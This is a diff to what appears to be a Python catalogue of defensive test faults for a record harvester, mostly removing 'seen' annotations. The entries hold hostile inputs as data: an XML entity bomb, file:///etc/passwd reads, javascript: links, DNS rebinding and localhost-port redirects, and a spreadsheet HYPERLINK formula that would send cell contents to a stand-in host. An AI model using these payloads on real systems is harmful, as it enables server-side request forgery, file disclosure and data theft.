@@ -72,7 +72,6 @@ FAULTS: tuple[Fault, ...] = (
         stopped("document-type-refused", "xml-unreadable"),
         but={"ine_pt": spoils_one()},  # it is read from its root element on, and knows no entities
         needs=_XML,
-        seen="PERFORMANCE 5",
     ),
     Fault(
         "entity-bomb",
@@ -80,8 +79,8 @@ FAULTS: tuple[Fault, ...] = (
         with_doctype(_BOMB, "&l9;"),
         stopped("document-type-refused", "xml-unreadable"),
         but={"ine_pt": spoils_one()},
+        seen="RDFLib/rdflib#3440",
         needs=_XML,
-        seen="PERFORMANCE 5",
     ),
     Fault(
         "foreign-document-type",
@@ -90,7 +89,6 @@ FAULTS: tuple[Fault, ...] = (
         stopped("document-type-refused", "xml-unreadable"),
         but={"ine_pt": whole()},
         needs=_XML,
-        seen="PERFORMANCE 5",
     ),
     Fault(
         "context-elsewhere",
@@ -98,7 +96,6 @@ FAULTS: tuple[Fault, ...] = (
         with_context("http://127.0.0.1:9/context.jsonld"),
         stopped("foreign-context-refused"),
         needs=("jsonld",),
-        seen="PERFORMANCE 5",
     ),
     Fault(
         "context-in-file",
@@ -106,7 +103,6 @@ FAULTS: tuple[Fault, ...] = (
         with_context("file:///etc/passwd"),
         stopped("foreign-context-refused"),
         needs=("jsonld",),
-        seen="PERFORMANCE 5",
     ),
     Fault(
         "script-in-texts",
@@ -120,7 +116,6 @@ FAULTS: tuple[Fault, ...] = (
             )
         ),
         spoils_one(),
-        seen="PERFORMANCE 5",
     ),
     Fault(
         "tracking-picture",
@@ -131,7 +126,6 @@ FAULTS: tuple[Fault, ...] = (
             )
         ),
         spoils_one(),
-        seen="PERFORMANCE 5",
     ),
     Fault(
         "link-that-runs",
@@ -139,7 +133,6 @@ FAULTS: tuple[Fault, ...] = (
         holding(spoilt(page="javascript:alert(1)", files=(File("javascript:alert(1)"),))),
         spoils_one("link-invalid"),
         needs=("pages-of-records",),
-        seen="PERFORMANCE 5",
     ),
     Fault(
         "link-with-data",
@@ -151,7 +144,6 @@ FAULTS: tuple[Fault, ...] = (
         ),
         spoils_one("link-invalid"),
         needs=("pages-of-records",),
-        seen="PERFORMANCE 5",
     ),
     Fault(
         "link-to-file",
@@ -159,14 +151,12 @@ FAULTS: tuple[Fault, ...] = (
         holding(spoilt(page="file:///etc/passwd", files=(File("file:///etc/passwd"),))),
         spoils_one("link-invalid"),
         needs=("pages-of-records",),
-        seen="PERFORMANCE 5",
     ),
     Fault(
         "formula",
         "The title of one record is a formula of a spreadsheet.",
         holding(spoilt(title='=HYPERLINK("https://spia.example/?x="&A1;"Servizi")')),
         spoils_one(),
-        seen="PERFORMANCE 5",
     ),
     Fault(
         "identifier-with-path",
@@ -219,7 +209,6 @@ FAULTS: tuple[Fault, ...] = (
         "A public name leads to this machine (DNS rebinding).",
         at("http://portal.example", _resolves_to("127.0.0.1")),
         _REFUSED,
-        seen="PERFORMANCE 5",
     ),
     Fault(
         "address-with-password",
@@ -232,13 +221,11 @@ FAULTS: tuple[Fault, ...] = (
         "The address is a file of this machine.",
         at("file:///etc/passwd"),
         stopped("address-invalid"),
-        seen="PERFORMANCE 5",
     ),
     Fault(
         "redirects-to-other-port",
         "Every address leads to another port of this machine.",
         sends_on("http://127.0.0.1:5432/"),
         _REFUSED,
-        seen="PERFORMANCE 5",
     ),
 )
